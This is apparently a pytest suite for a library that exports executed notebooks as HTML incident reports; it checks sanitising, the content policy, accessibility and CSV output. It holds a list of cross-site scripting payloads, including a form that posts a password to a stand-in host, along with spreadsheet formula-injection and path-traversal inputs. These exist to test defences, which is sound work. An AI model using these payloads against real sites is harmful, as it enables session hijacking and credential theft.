"""Exporting: what an executed notebook becomes as a page, and what hostile text in it does not become."""

import base64
import csv
import hashlib
import io
import json
import re
from html.parser import HTMLParser

import pandas as pd
import plotly.graph_objects as go
import pytest
from hypothesis import given
from hypothesis import strategies as st
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

from incident_lib import theme
from incident_lib.reports.export import FILE, TABLE, export_page
from incident_lib.reports.page_parts import surroundings
from incident_lib.reports.plotly_code import plotly_code
from incident_lib.reports.plots import inert, plot_html
from incident_lib.reports.sanitise import CLASSES, Anchors, clean, markdown
from incident_lib.reports.sheets import csv_bytes, safe_cell

HOSTILE = [
    "<script>boom()</script>",
    "<img src=x onerror=boom()>",
    "<svg onload=boom()>",
    "<iframe srcdoc='<script>boom()</script>'></iframe>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><input name=password></form>",
    "<a href='javascript:boom()'>click</a>",
    "<a href='data:text/html,<script>boom()</script>'>click</a>",
    "[click](javascript:boom())",
    "![x](https://evil.example/track.png)",
    "<style>@import url(https://evil.example)</style>",
    "<base href=https://evil.example>",
    "<p style='background:url(https://evil.example)' onclick=boom()>text</p>",
    "</main></body></html><script>boom()</script>",
    "<abbr title='<td>INC-2026-042</td> <img src=x onerror=boom()>'>x</abbr>",
    "<a href=x title='> INC-2026-042 onclick=boom() <table></table>'>x</a>",
]


class Dangers(HTMLParser):
    """Collects what could run, load, submit, or restyle, as a browser would see it."""

    def __init__(self, text):
        super().__init__()
        self.found = []
        self.feed(text)

    def handle_starttag(self, tag, attributes):
        """Note tags and attributes that no report has."""
        bad = {"script", "img", "svg", "iframe", "meta", "form", "input", "style", "base", "link", "object", "embed"}
        self.found += [tag] if tag in bad else []
        for name, value in attributes:
            address = re.match(r"\s*(javascript|data|vbscript):", value or "", re.IGNORECASE)
            self.found += [f"{tag} {name}"] if name.startswith("on") or name in ("style", "srcdoc") or address else []


def dangers(text):
    """Return what in a piece of HTML could do something."""
    return Dangers(text).found


def page_of(*cells):
    """Return the page of Markdown texts and lists of outputs, as text."""
    made = [new_markdown_cell(cell) if isinstance(cell, str) else new_code_cell("1", outputs=cell) for cell in cells]
    return export_page(new_notebook(cells=made))


def shown(data, **rest):
    """Return a displayed output."""
    return new_output("display_data", data, **rest)


def body(page):
    """Return a page's main part."""
    return page.html.decode().partition('<main id="main">')[2].partition("</main>")[0]


def _without_pictures(text):
    """Return HTML without our own drawings, having seen that they hold shapes and texts only."""
    pictures = re.findall(r'<svg class="static.*?</svg>', text)
    known = {"svg", "path", "text", "tspan", "g", "clipPath", "pattern"}
    assert all(set(re.findall(r"<(\w+)", picture)) <= known and dangers(picture) == ["svg"] for picture in pictures)
    return re.sub(r'<svg class="static.*?</svg>', "", text)


def figure(title="Minutes", **rest):
    """Return a figure's mimebundle."""
    made = go.Figure(go.Bar(x=["a"], y=[1]), layout_title_text=title)
    return {theme.MIMETYPE: json.loads(theme.described(made, alt="One bar.", table=pd.DataFrame(rest)).to_json())}


def test_page_has_title_language_and_landmarks():
    """The title comes from the first heading; language, main part, skip link and policy are there."""
    text = page_of("# Are we <on> time?").html.decode()

    assert "<title>Are we &lt;on&gt; time?</title>" in text
    assert text.startswith("<!doctype html>\n<html lang=\"en\">") and text.endswith("</html>\n")
    assert '<a class="skip" href="#main">' in text and '<main id="main">' in text


def test_page_without_heading_gets_the_title_given():
    """A notebook without a first heading is titled by the caller."""
    page = export_page(new_notebook(cells=[new_markdown_cell("text")]), title="Timeliness", home="../index.html")

    assert page.title == "Timeliness" and "<h1>Timeliness</h1>" in body(page)
    assert '<a href="../index.html">All reports</a>' in page.html.decode()


def test_contents_list_three_or_more_sections():
    """From three sections on a page has a table of contents, before the second section; repeated names are numbered."""
    page = body(page_of("# T", "## One", "## Two", "## One"))

    assert re.findall(r'<li><a href="#(s-[^"]+)">', page) == ["s-one", "s-two", "s-one-2"]
    assert page.index('id="s-one"') < page.index("On this page") < page.index('id="s-two"')
    assert "On this page" not in body(page_of("# T", "## One", "## Two"))


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_in_markdown_is_only_text(text):
    """Nothing in a Markdown cell or a Markdown output runs, loads, or submits."""
    anchors = Anchors()
    for written in (text, f"# {text}", f"| a |\n|---|\n| {text} |", f"> {text}", f"`{text}`"):
        assert dangers(markdown(written, anchors)[0]) == []
    assert dangers(body(page_of([shown({"text/markdown": text})]))) == []


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_html_output_is_cleaned(text):
    """HTML outputs keep our tags only, whatever stands in them."""
    assert dangers(clean(text)) == []


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_elsewhere_is_escaped(text):
    """Printed text, errors, unknown formats, titles, table names and figure texts show as they are."""
    page = page_of(
        f"# {text}",
        [new_output("stream", text=text), new_output("stream", name="stderr", text=text)],
        [new_output("error", ename=text, evalue=text, traceback=[text])],
        [shown({"text/vnd.mermaid": text, "text/plain": text}), shown({"image/svg+xml": text})],
        [shown({TABLE: {"name": text, "title": text, "columns": [text], "rows": [[text]]}, "text/html": text})],
        [shown(figure(title=text, **{text: [text]}))],
    )
    assert dangers(_without_pictures(body(page))) == ["div style", "script"]  # the figure's height, and its data
    head = page.html.decode().partition("<style>")[0]
    assert head.count("<meta") == 5 and "<script" not in head


@given(st.text())
def test_any_text_survives_as_text(text):
    """Whatever is printed comes out as the same text, and never opens a tag of its own."""
    page = body(page_of([new_output("stream", text=text)]))
    assert re.sub(r"</?(div|pre|h1|details|summary|code)( [^<>]*)?>", "", page).count("<") == 0


def test_our_own_tables_pass_the_sanitiser_unchanged():
    """What the library's tables use is on the allow-list: caption, scopes, classes, the scrolling region."""
    ours = (
        '<div class="scroll" role="region" tabindex="0" aria-label="Due"><table class="data"><caption>Due</caption>'
        '<thead><tr><th scope="col">Incident</th><th scope="col" class="number">Minutes</th></tr></thead><tbody>'
        '<tr class="start"><td><span class="badge severity-high">◆ high</span></td><td class="number">12</td></tr>'
        "</tbody></table></div>"
    )
    cleaned = clean(ours)

    for part in re.findall(r'(?:class|scope|role|tabindex|aria-label)="[^"]*"|<caption>', ours):
        assert part in cleaned
    assert 'class="evil' not in clean('<p class="evil answer">x</p>')


@pytest.mark.parametrize("name", ["answer", "state-late", "severity-critical", "start", "resolution", "cards", "plain"])
def test_style_sheet_knows_each_class_that_passes(name):
    """The classes that reports rely on are allowed through and styled."""
    assert any(name in classes for classes in CLASSES.values())
    assert f".{name}" in str(surroundings().style)


def test_links_keep_safe_schemes_and_embedded_pictures_stay():
    """Links of the web, mail and relative ones pass; pictures only if they are embedded PNG files."""
    for address in ("https://x.example/a", "http://x.example", "mailto:a@b.example", "draft/x.html", "#s-one"):
        assert f'href="{address}"' in clean(f'<a href="{address}">x</a>')
    assert "<img" in clean('<img src="data:image/png;base64,AAAA" alt="x">')
    assert "<img" not in clean('<img src="data:image/svg+xml;base64,AAAA"><img src="//evil.example/x.png">')


def test_ids_and_times_in_tables_do_not_break():
    """Short cells such as ids and times are marked, so that they stay on one line."""
    cleaned = clean("<table><tr><td>2026-03-02 09:14</td><td>INC-2026-042</td><td>two words</td></tr></table>")

    assert cleaned.count('class="short"') == 2 and "<td>two words" in cleaned
    assert f'<td class="long">{"word " * 10}</td>' in clean(f"<table><tr><td>{'word ' * 10}</td></tr></table>")
    assert '<p>see <span class="short">INC-2026-042</span>.</p>' in clean("<p>see INC-2026-042.</p>")
    assert clean(cleaned) == cleaned


def test_every_table_scrolls_in_a_region_of_its_own():
    """A bare table is wrapped, so that it can't widen the page; one that is wrapped stays as it is."""
    bare = clean("<blockquote><table><tr><td>x</td></tr></table></blockquote>")

    assert bare.count('class="scroll"') == 1 and clean(bare).count('class="scroll"') == 1


def test_scrolling_regions_have_names_of_their_own():
    """Screen readers list regions by name; two tables don't share one."""
    page = body(page_of("| a |\n|---|\n| 1 |", "| b |\n|---:|\n| 2 |"))

    assert re.findall(r'aria-label="(Table[^"]*)"', page) == ["Table", "Table 2"]
    assert '<td class="number">2</td>' in page


def test_figure_is_described_titled_and_tabulated():
    """A figure brings its sentence, its title as text, and its numbers."""
    page = page_of([shown(figure("Minutes <b>per</b> incident", incident=["INC-1", None], minutes=[1234.5, 2.0]))])
    text = body(page)

    assert '<figure class="plot" role="group" aria-label="One bar.">' in text
    assert "<figcaption>One bar.</figcaption>" in text
    assert '<p class="title">Minutes per incident</p>' in text
    assert '<tr><td>INC-1<td class="number">1,234.5\n<tr><td><td class="number">2.0<' in text
    drawn = json.loads(re.search(r'plotly\.v1\+json">(.*?)</script>', text)[1])
    assert "title" not in drawn["layout"] and "meta" not in drawn["layout"]


def test_page_embeds_plotly_only_for_figures():
    """A page without figures has no script at all; one with figures has plotly once."""
    without, several = page_of("# T"), page_of([shown(figure())], [shown(figure())])

    assert b"<script" not in without.html and len(without.html) < 40_000
    assert several.html.count(b'id="plotly-packed"') == 1 and several.html.count(b"<figure") == 2


def test_policy_names_exactly_the_scripts_that_run():
    """The page's policy has the digests of our script and of plotly, and of the style where nothing else is needed."""
    page = page_of([shown(figure())]).html.decode()
    policy = re.search(r'Content-Security-Policy" content="([^"]*)"', page)[1].replace("&#39;", "'")
    boot = re.search(r"<script>(.*?)</script>", page, re.DOTALL)[1]

    for code in (boot, plotly_code()):
        assert f"'sha256-{base64.b64encode(hashlib.sha256(code.encode()).digest()).decode()}'" in policy
    assert "unsafe-eval" not in policy and "script-src 'unsafe" not in policy and "default-src 'none'" in policy
    assert "unsafe" not in re.search(r'Content-Security-Policy" content="([^"]*)"', page_of("x").html.decode())[1]


def test_figure_texts_cannot_link_or_restyle():
    """Plotly obeys links and styles in labels; only bold, italics, line breaks and hover boxes stay."""
    assert inert('<a href="https://evil.example">x</a>') == '&lt;a href="https://evil.example">x&lt;/a>'
    assert inert('<span style="font-size:90px">') == '&lt;span style="font-size:90px">'
    assert inert("<b>n</b><br>%{x}<extra></extra> 3 < 4") == "<b>n</b><br>%{x}<extra></extra> 3 < 4"
    assert inert({"a": [1, None, {"b": "<i onclick=x>"}]}) == {"a": [1, None, {"b": "&lt;i onclick=x>"}]}


def test_figure_loads_no_pictures():
    """Pictures from elsewhere are dropped from figures, and what looks like a tag can't end the script."""
    layout = {"images": [{"source": "https://evil.example/x"}]}
    page = plot_html({"data": [{"name": "</script>"}], "layout": layout}, number=1)

    assert "evil.example" not in page and page.count("</script>") == 1


def test_code_is_in_a_fold_unless_tagged():
    """Sources are folded; cells tagged remove-input, and parameters, show none."""
    tagged = [new_code_cell("secret_sauce()", metadata={"tags": [tag]}) for tag in
              ("remove-input", "parameters", "injected-parameters")]  # fmt: skip
    page = body(export_page(new_notebook(cells=[new_code_cell("a < b"), *tagged])))

    assert page.count("How this was computed") == 1 and "a &lt; b" in page and "secret_sauce" not in page


def test_errors_are_named_at_the_top():
    """A page of a notebook with an error says so first, with the section, and without colour codes."""
    error = new_output("error", ename="\x1b[31mValueError", evalue="no rows", traceback=[])
    page = body(page_of("## Numbers", [error]))

    assert "<li>Numbers: ValueError: no rows</li>" in page
    assert page.index("not complete") < page.index("<h2")


def test_warnings_go_into_a_fold_and_print_stays():
    """Printed text shows; the error stream is folded; the closing word and blank output show nothing."""
    done = {"application/vnd.incident-workbook.done+json": {}, "text/plain": "{}"}
    printed, warned = new_output("stream", text="out"), new_output("stream", name="stderr", text="careful")
    page = body(page_of([printed, warned, shown(done)]))

    assert '<pre class="output" tabindex="0">out</pre>' in page and "{}" not in page
    assert re.search(r"<details class=\"messages\">.*careful", page)


def test_table_becomes_csv_with_a_link():
    """A table output is written as CSV under a safe name, without overwriting another of the same name."""
    table = {"name": "over due/…", "title": "Overdue", "columns": ["id", "n"], "rows": [["=1+1", 2], [None, -3.5]]}
    page = page_of([shown({TABLE: table, "text/html": "<p>t</p>"}), shown({TABLE: table, "text/html": "<p>t</p>"})])
    first, second = page.tables

    assert re.fullmatch(r"over-due-[0-9a-f]{8}\.csv", first) and second.endswith("-2.csv")
    rows = list(csv.reader(io.StringIO(page.tables[first].decode("utf-8-sig"))))
    assert rows == [["id", "n"], ["'=1+1", "2"], ["", "-3.5"]]
    assert f'<a href="{first}" download>' in body(page) and "2 rows" in body(page)


@pytest.mark.parametrize("text", ["=1+1", "+cmd", "-cmd|x", "@SUM(A1)", "\t=1", "\r=1", " =1", "＝1+1", "-2+3", "\n=1"])
def test_formulas_are_defused(text):
    """Text that a spreadsheet would run gets an apostrophe."""
    assert safe_cell(text) == f"'{text}"


@pytest.mark.parametrize("value", ["-2.5", "+49", "plain", "", 3, -4.5, True, "1e-3", "-12 %"])
def test_numbers_and_plain_text_stay(value):
    """Numbers, also negative ones, and ordinary text are written as they are."""
    assert safe_cell(value) == value


@given(st.lists(st.lists(st.text(st.characters(exclude_categories=["Cs"]), max_size=8), min_size=2, max_size=2)))
def test_csv_reads_back(rows):
    """A table comes back from its CSV, formulas marked by an apostrophe."""
    text = csv_bytes(["a", "b"], rows).decode("utf-8-sig")
    read = list(csv.reader(io.StringIO(text, newline="")))[1:]

    assert read == [[safe_cell(value) for value in row] for row in rows]
    assert not any(value.startswith(("=", "@", "\t", "\r")) for row in read for value in row)


def test_described_keeps_plain_values():
    """A figure's table travels as JSON: times as text, missing as None, other meta kept."""
    table = pd.DataFrame({
        "at": pd.to_datetime(["2026-03-02 09:14", None], utc=True), "on": pd.to_datetime(["2026-03-02", None]),
        "n": pd.array([1, None], dtype="Int64"), "share": [0.5, float("nan")], "ok": [True, False],
    })  # fmt: skip
    meta = theme.described(go.Figure(layout_meta={"kept": 1}), alt="A.", table=table).layout.meta

    assert meta["kept"] == 1 and meta["table"]["columns"] == ["at", "on", "n", "share", "ok"]
    assert meta["table"]["rows"] == [["2026-03-02 09:14", "2026-03-02", 1, 0.5, True], [None, None, None, None, False]]
    json.dumps(meta, allow_nan=False)


def contrast(one, other):
    """Return the WCAG 2 contrast of two colours."""
    def luminance(colour):
        parts = [part / 255 for part in theme.rgb(colour)]
        linear = [part / 12.92 if part <= 0.04045 else ((part + 0.055) / 1.055) ** 2.4 for part in parts]
        return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]

    light, dark = sorted((luminance(one), luminance(other)), reverse=True)
    return (light + 0.05) / (dark + 0.05)


def mixed(one, other, share):
    """Return a colour mixed as CSS ``color-mix`` in sRGB does."""
    parts = [round(a * share + b * (1 - share)) for a, b in zip(theme.rgb(one), theme.rgb(other), strict=True)]
    return "#{:02x}{:02x}{:02x}".format(*parts)


NOT_FOR_TEXT = {"paper", "wash", "line", "grid", "neutral"}


@pytest.mark.parametrize("mode", ["light", "dark"])
@pytest.mark.parametrize("name", [name for name in theme.PALETTE if name not in NOT_FOR_TEXT and "mark" not in name])
def test_text_colours_have_contrast(name, mode):
    """Every colour that text has is readable (AA: 4.5) on the page, on a box, and on its own tint."""
    colours = {key: getattr(colour, mode) for key, colour in theme.PALETTE.items()}
    for ground in (colours["paper"], colours["wash"], mixed(colours[name], colours["paper"], 0.09)):
        assert contrast(colours[name], ground) >= 4.5


@pytest.mark.parametrize("name", [name for name in theme.PALETTE if "mark" in name or name in theme.SERIES])
def test_marks_stand_out(name):
    """Bars and points are told from the page (AA for graphics: 3) in both modes."""
    mark, ground = theme.PALETTE[name], theme.PALETTE["paper"]
    assert contrast(mark.light, ground.light) >= 3 and contrast(mark.dark, ground.dark) >= 3


def test_light_colours_are_unique():
    """A page finds the dark form of a colour by its light form, so no two are alike."""
    lights = [colour.light for colour in theme.PALETTE.values()]
    assert len(set(lights)) == len(lights)


def test_lost_figure_stops_the_export(monkeypatch):
    """If a figure of the notebook does not reach the page, that is an error, not a shorter page."""
    monkeypatch.setattr("incident_lib.reports.export.plot_html", lambda figure, number: "")
    with pytest.raises(Exception, match="the page has 0 figures and the notebook 1"):
        page_of([shown(figure())])


def test_cells_of_a_stacked_table_say_their_heading():
    """On a phone no heading stands above them; a row of another width is left as it is, and quotes don't break out."""
    rows = '<tr><td>1</td><td class="number">2</td></tr><tr><td colspan="2">all</td></tr>'
    html = clean(f'<table class="data stacked"><thead><tr><th scope="col">a "b"</th><th>c</th></tr></thead><tbody>{rows}</tbody></table>')

    assert '<td data-label="a &quot;b&quot;" class="short">1' in html and 'data-label="c" class="number">2' in html
    assert html.count("data-label") == 2
    assert "data-label" not in clean('<table class="data"><tbody><tr><td data-label="x">1</td></tr></tbody></table>')


def test_an_invitation_lies_beside_the_page():
    """Under a plain name and with the one suffix that is allowed, linked from where the notebook shows it."""
    def given(name):
        return {"name": name, "label": "Invitation", "about": "on <Thursday>", "content": base64.b64encode(b"BEGIN").decode()}

    page = page_of([shown({FILE: given("process-review-2026-Q3.ics")}), shown({FILE: given("../evil.html")})])

    assert page.tables["process-review-2026-Q3.ics"] == b"BEGIN"
    assert all(name.endswith(".ics") and "/" not in name for name in page.tables) and len(page.tables) == 2
    assert b'<a href="process-review-2026-Q3.ics" download>Invitation</a> <span>on &lt;Thursday&gt;</span>' in page.html
